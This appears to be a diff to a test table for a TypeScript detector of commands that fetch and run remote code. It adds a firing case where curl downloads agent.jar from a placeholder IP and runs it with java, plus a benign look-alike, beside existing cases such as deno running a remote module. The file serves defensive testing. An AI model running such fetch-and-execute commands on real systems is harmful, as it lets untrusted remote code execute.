@@ -9,6 +9,7 @@ import { commandRemoteFetchExecute } from './remote-fetch-execute.ts';
 
 indicatorTable(commandRemoteFetchExecute, {
   fires: {
+    'an archive of Java': script('curl -sO http://203.0.113.7/agent.jar && java -Xmx1g -jar agent.jar --host a'),
     'an address that deno runs': runs('deno', 'run', '-A', 'https://203.0.113.7/mod.ts'),
     'the shell of Windows': runs(
       'cmd.exe',
@@ -90,6 +91,9 @@ indicatorTable(commandRemoteFetchExecute, {
     ),
   },
   staysSilent: {
+    'an archive of Java from the image': script(
+      'curl -s https://example.com/a.json -o a.json; java -jar /app/app.jar a.json',
+    ),
     'a page that PowerShell reads': runs('pwsh', '-c', '(iwr https://example.com/a.json).Content | ConvertFrom-Json'),
     'the sum of a file on Windows': runs('cmd', '/c', 'certutil -hashfile C:\\app\\a.dll SHA256 && C:\\app\\run.exe'),
     'what awk reads and puts into a command': runs('awk', 'BEGIN{"date" | getline d; system("echo " d)}'),
